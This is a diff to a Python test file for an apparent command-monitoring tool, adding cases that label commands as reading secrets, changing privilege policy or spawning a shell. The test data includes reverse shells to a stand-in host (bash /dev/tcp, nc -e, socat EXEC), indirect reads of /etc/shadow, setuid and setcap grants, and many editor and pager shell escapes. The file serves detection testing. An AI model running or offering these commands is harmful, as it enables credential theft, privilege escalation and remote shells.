@@ -27,10 +27,10 @@ from fidelitas.masking import masked
 from fidelitas.sources.logs import logs_at
 from fidelitas.usage import AttributedEvent, SensitiveTarget, sensitive_targets
 from fidelitas.usage.command_families import family_of
-from fidelitas.usage.command_lines import gives_shell
 from fidelitas.usage.habits import Habits
 from fidelitas.usage.meanings import alike, meaning_of
 from fidelitas.usage.sensitive_targets import edited_paths
+from fidelitas.usage.shells import gives_shell
 from fidelitas.usage.statistics import (
     BINS,
     burst_tail,
@@ -263,6 +263,17 @@ def test_time_that_runs_backwards(back: timedelta, found: bool, tmp_path: Path) 
         ("/usr/bin/python3 -c \"print(open('/etc/shadow').read())\"", SensitiveTarget.SECRET), ("/usr/bin/python3 -c \"open('/etc/sudoers.d/x','w')\"", SensitiveTarget.POLICY),
         ("/usr/bin/perl -pi -e 's/x/y/' /etc/sudoers.d/x", SensitiveTarget.POLICY), ("/usr/bin/sed -i s/x/y/ /etc/pam.d/su", SensitiveTarget.POLICY),
         ("/usr/bin/sed -n 1p /etc/pam.d/su", None), ("/usr/sbin/chroot /mnt cat /etc/shadow", SensitiveTarget.SECRET), ("/usr/bin/xargs cat /etc/shadow", SensitiveTarget.SECRET),
+        # what options write to, and what is read by other roads
+        ("/usr/bin/curl -o /etc/sudoers.d/x http://h/x", SensitiveTarget.POLICY), ("/usr/bin/wget -O/etc/sudoers.d/x http://h/x", SensitiveTarget.POLICY),
+        ("/usr/bin/wget --output-document=/etc/pam.d/su h", SensitiveTarget.POLICY), ("/usr/bin/cp -t /etc/sudoers.d x", SensitiveTarget.POLICY), ("/usr/bin/cp -t /tmp /etc/shadow", SensitiveTarget.SECRET),
+        ("/usr/bin/tar xf x.tar -C /etc/sudoers.d", SensitiveTarget.POLICY), ("/usr/bin/tar cf /tmp/x -C /etc shadow", SensitiveTarget.SECRET), ("/usr/bin/tar -C /srv -xf x", None),
+        ("/bin/cat /proc/1/root/etc/shadow", SensitiveTarget.SECRET), ("/usr/bin/getent shadow root", SensitiveTarget.SECRET), ("/usr/bin/getent passwd", None),
+        ("/usr/bin/dd if=/dev/sda of=/srv/image", SensitiveTarget.SECRET), ("/usr/bin/dd if=/dev/zero of=/srv/x", None), ("/usr/sbin/fdisk -l /dev/sda", None),
+        ("/usr/sbin/debugfs -R 'cat /etc/shadow' /dev/vda1", SensitiveTarget.SECRET), ("/usr/sbin/vipw -s", SensitiveTarget.POLICY),
+        # what makes a program run as its owner, or with capabilities
+        ("/bin/chmod u+s /tmp/x", SensitiveTarget.POLICY), ("/bin/chmod -v 4755 /tmp/x", SensitiveTarget.POLICY), ("/bin/chmod g+s /srv", None), ("/bin/chmod 2775 /srv", None),
+        ("/bin/chmod 0755 /tmp/x", None), ("/usr/bin/install -m 4755 x /usr/bin/x", SensitiveTarget.POLICY), ("/usr/bin/install -m 755 x /usr/bin/x", None),
+        ("/usr/sbin/setcap cap_setuid+ep /tmp/x", SensitiveTarget.POLICY), ("/usr/sbin/setcap -r /tmp/x", None),
         # what is to hide a word behind others
         (f"/bin/sh -c ': {'x ' * 9000}; cat /etc/shadow'", SensitiveTarget.SECRET), (f"/bin/cat {'x ' * 9000} /etc/shadow", SensitiveTarget.SECRET),
         (f"{'/bin/sh -c ' * 20} cat /etc/shadow", SensitiveTarget.SECRET),
@@ -280,18 +291,59 @@ def test_a_relative_path_is_of_the_folder_that_the_line_names() -> None:
     assert edited_paths("/usr/bin/vim ../sudoers.d/x", "/etc/ssh") == ["/etc/sudoers.d/x"]
 
 
-SHELLS = """/bin/bash; /usr/bin/zsh -l; /usr/bin/su -; /usr/bin/env -i /bin/bash; /usr/sbin/chroot /mnt; /usr/sbin/chroot /mnt bash -l; /usr/bin/nsenter -t 1 -m -u;
-/usr/bin/nsenter -t 1 -m /bin/sh; /usr/bin/unshare -m; /usr/bin/systemd-run --shell; /usr/bin/systemd-run -t /bin/bash; /bin/busybox sh; /usr/bin/script;
-/usr/sbin/runuser -l rada; /usr/sbin/runuser -u rada bash; /usr/bin/sudo -i; /usr/bin/sudo -u rada -s; /usr/bin/docker exec -it app bash; /usr/bin/tmux new;
-/usr/bin/machinectl shell; /usr/bin/timeout 5 bash; /sbin/ip netns exec blue bash; /usr/bin/strace -f bash"""
-NONE = """/bin/bash -c true; /bin/bash /root/x.sh; /usr/bin/su - -c id; /bin/su -c id rada; /usr/sbin/chroot /mnt /bin/ls; /usr/bin/nsenter -t 1 -m ls; /usr/bin/unshare -m id;
-/usr/bin/systemd-run -p X=y /bin/true; /bin/busybox ls; /usr/bin/script -c id /tmp/x; /usr/sbin/runuser -u rada id; /usr/bin/sudo id; /usr/bin/docker exec -it app sh -c echo;
-/usr/bin/docker ps; /sbin/ip a; /usr/bin/less /etc/shadow; /usr/bin/python3 -c x; '"""
+SHELLS = r"""/bin/bash | /usr/bin/zsh -l | /usr/bin/su - | /usr/bin/env -i /bin/bash | /usr/sbin/chroot /mnt | /usr/sbin/chroot /mnt bash -l |
+/usr/bin/nsenter -t 1 -m -u | /usr/bin/nsenter -t 1 -m /bin/sh | /usr/bin/unshare -m | /usr/bin/systemd-run --shell |
+/usr/bin/systemd-run -t /bin/bash | /bin/busybox sh | /usr/bin/script | /usr/sbin/runuser -l rada | /usr/sbin/runuser -u rada bash |
+/usr/bin/sudo -i | /usr/bin/sudo -u rada -s | /usr/bin/docker exec -it app bash | /usr/bin/tmux new | /usr/bin/machinectl shell |
+/usr/bin/timeout 5 bash | /sbin/ip netns exec blue bash | /usr/bin/strace -f bash | kubectl exec -it pod -- bash |
+kubectl -n x exec -it pod -c y -- sh | docker run -it debian | docker exec -it -u 0 --workdir /x web bash |
+podman run --rm -it --name z --network host img sh | docker compose exec web bash | lxc exec c -- su - | lxc-attach -n c |
+systemd-nspawn -D /x | env -S 'bash -i' | env -i bash | env -u A bash | sh -c 'cd /x && exec bash' |
+bash -c 'bash -i >& /dev/tcp/h/9 0>&1' | nohup bash -i | setpriv --reuid 0 --clear-groups sh | capsh --  |
+ld-linux-x86-64.so.2 --library-path /x /bin/sh | python3.11 | perl | node | irb | php -a | ipython3 | find / -exec /bin/bash ; |
+find . -name x -exec bash -p ; | vim -c ':!bash' x | vim --cmd :shell | vi +:sh x | less +!bash x | gdb -nx -ex '!sh' -ex quit |
+tar cf x y --checkpoint=1 --checkpoint-action=exec=/bin/sh | socat TCP:h:9 EXEC:/bin/bash | nc h 9 -e /bin/bash | rsync -e sh x y |
+python -c 'import os;os.execl("/bin/sh","sh")' | perl -e 'exec "/bin/bash";' | awk 'BEGIN {system("/bin/sh")}' |
+ruby -e 'exec "/bin/sh"' | lua -e 'os.execute("/bin/sh")' | expect -c 'spawn bash;interact' | emacs -Q -nw --eval '(term "/bin/sh")' |
+ssh -o ProxyCommand=sh x | man -P '!sh' x | timeout --signal KILL 5 bash | su -c bash | su rada -c 'bash -l' |
+runuser -u rada -- bash | script -qc bash /dev/null | xargs bash | dbus-run-session -- bash | tmux new -s x | screen | screen -S x |
+unshare --map-root-user --mount | nsenter --target 1 --mount --pid | chroot /x | pkexec | ip netns exec b bash | busybox sh |
+stdbuf -oL bash | exec bash | time bash | git -c core.pager='sh' log | ed !sh | strace -o /dev/null /bin/sh | numactl -N 0 bash |
+setarch x86_64 bash"""
+NONE = r"""/bin/bash -c true | /bin/bash /root/x.sh | /usr/bin/su - -c id | /bin/su -c id rada | /usr/sbin/chroot /mnt /bin/ls |
+/usr/bin/nsenter -t 1 -m ls | /usr/bin/unshare -m id | /usr/bin/systemd-run -p X=y /bin/true | /bin/busybox ls |
+/usr/bin/script -c id /tmp/x | /usr/sbin/runuser -u rada id | /usr/bin/sudo id | /usr/bin/docker exec -it app sh -c echo |
+/usr/bin/docker ps | /sbin/ip a | /usr/bin/less /etc/shadow | /usr/bin/python3 -c x | ' | apt install bash | chsh -s /bin/bash tomas |
+useradd -m -s /bin/bash x | usermod --shell /bin/zsh x | usermod --shell=/bin/zsh x | python3 /opt/x.py | python3 -m http.server |
+python3 -V | perl -v | perl /x.pl | node app.js | php artisan migrate | docker ps | docker run -d nginx | docker run --rm alpine ls |
+docker run -it --name x alpine ls | docker exec web ls | docker exec -u 5 web ls | docker logs x | kubectl get pods |
+kubectl exec pod -- ls | kubectl -n x exec -it pod -c y -- ls -l | lxc list | lxc exec c -- ls | rsync -e ssh a b |
+rsync -e 'ssh -p 22' a b | tar czf x y | tar -I zstd -cf x y | find . -exec ls {} ; | find / -name sh | find . ! -name sh |
+which bash | dpkg -S /bin/bash | ls -l /bin/sh | cat /etc/shells | grep -r 'bash' /etc | sed -i s/sh/bash/ x | vim /etc/x |
+vim -c 'set nu' x | vim +10 x | vim /opt/x.sh | less x | crontab -l | make install | make sh | git -C /x pull | gdb -p 12 | nc -l 99 |
+systemctl restart x | awk '{print $1}' x | awk -F: '$7=="/bin/bash"' /etc/passwd | awk '/bash/' f | awk 'BEGIN{system("sh /x.sh")}' |
+getent passwd | timeout 5 ls | nice ls | env A=b ls | env | nsenter -t 1 -m ls | nsenter --target 1 --mount ls | unshare -r ls |
+chroot /mnt ls | setpriv --reuid 5 ls | strace -p 12 | watch ls | xargs rm | tmux ls | screen -ls | screen -S x -X quit |
+python3 -c 'print(1)' | python3 -c 'import subprocess; subprocess.run(["bash","-c","ls"])' |
+python3 -c "subprocess.run(['bash','/x.sh'])" | perl -e 'print 1' | perl -pi -e s/a/b/ f | perl -e 'system("bash -c ls")' | ruby -v |
+sh -c 'ls' | bash -lc 'make' | bash -x script | sh /opt/x.sh | su -c id | sudo -l | sudo -v | sudo -K | ip a | ip netns exec b ip a |
+ip netns list | machinectl list | script -c id | pkexec /usr/bin/x | git -c core.editor=vim commit | busybox ls |
+ansible -m shell -a ls | mysql -e 'show' | nmap -sS h | passwd | tar --to-command=cat xf y | split --filter='gzip > $FILE.gz' x |
+nohup x.sh | flock /l x.sh | systemd-run --unit x y | start-stop-daemon -S -x /usr/sbin/x | php -r 'echo 1;' | lua x.lua |
+julia x.jl | sh -c 'cat /etc/shells' | bash -c 'for i in 1 2; do echo $i; done' | bash -c 'exec /usr/sbin/nginx' |
+sh -c '. /etc/profile; exec "$@"' | /usr/bin/install -m 755 x.sh /usr/local/bin | run-parts /etc/cron.daily |
+update-alternatives --set sh /bin/dash | ln -sf dash /bin/sh | dash /x | visudo | debugfs /dev/sda | service ssh restart |
+useradd -s /usr/sbin/nologin x | find /x -name '*.sh' -exec chmod +x {} + | find . -exec sh -c 'ls {}' ; | xargs -I{} sh -c 'ls {}' |
+env FOO=bash ls | sudo -u postgres psql | psql -c 'select 1' | echo ! sh | rpm -q --scripts bash | expect /x.exp | tclsh x.tcl |
+node --version | python3 -m pip install ipython | apt-get install -y python3 perl ruby | update-rc.d x defaults | chmod +x sh |
+strings /bin/sh | eval-x | time ls | command -v bash | exec ls | docker compose run web ls | docker compose exec web ls |
+docker build -t x . | podman run --rm -v /a:/b img make | lxc-attach -n c -- ls | systemd-nspawn -D /x ls |
+systemd-nspawn -D /x --bind /a ls | fakeroot make | firejail ls"""
 
 
 @pytest.mark.parametrize(("commands", "expected"), [(SHELLS, True), (NONE, False)])
 def test_which_commands_give_a_shell(commands: str, *, expected: bool) -> None:
-    assert [one for one in (part.strip() for part in commands.split(";")) if gives_shell(one) is not expected] == []
+    assert [one for one in (part.strip() for part in commands.split("|")) if gives_shell(one) is not expected] == []
 
 
 @given(st.text(max_size=200))
@@ -307,10 +359,12 @@ arguments = st.sampled_from(
         "id_ed25519", "/root/.ssh/id_ed25519", "timeout", "3600", "nsenter", "-t", "4755", "chmod", "-R", "--", "/etc/sudoers.d/12345", "*", "/[0-9]/1234", "1234;",
     )
 )  # fmt: skip
-programs = st.sampled_from(("/bin/cat", "cp", "/opt/2026/tool", "timeout", "sudo", "find", "bash", "tar", "9999", "visudo", '"a', "kill"))
+programs = st.sampled_from(
+    ("/bin/cat", "chmod", "install", "cp", "/opt/2026/tool", "timeout", "sudo", "find", "bash", "tar", "9999", "visudo", '"a', "kill")
+)
 
 
-@given(programs, st.lists(arguments, max_size=6), st.integers(1000, 10**9), st.sampled_from(("/", "/var/log", "/proc/1000")))
+@given(programs, st.lists(arguments, max_size=6), st.integers(8000, 10**9), st.sampled_from(("/", "/var/log", "/proc/1000")))
 def test_what_a_command_amounts_to_does_not_hang_on_numbers_in_it(program: str, words: list[str], number: int, folder: str) -> None:
     """Other numbers in a command: the same shell, targets, work and program, worked out for each by itself."""
     command = " ".join([program, *words])
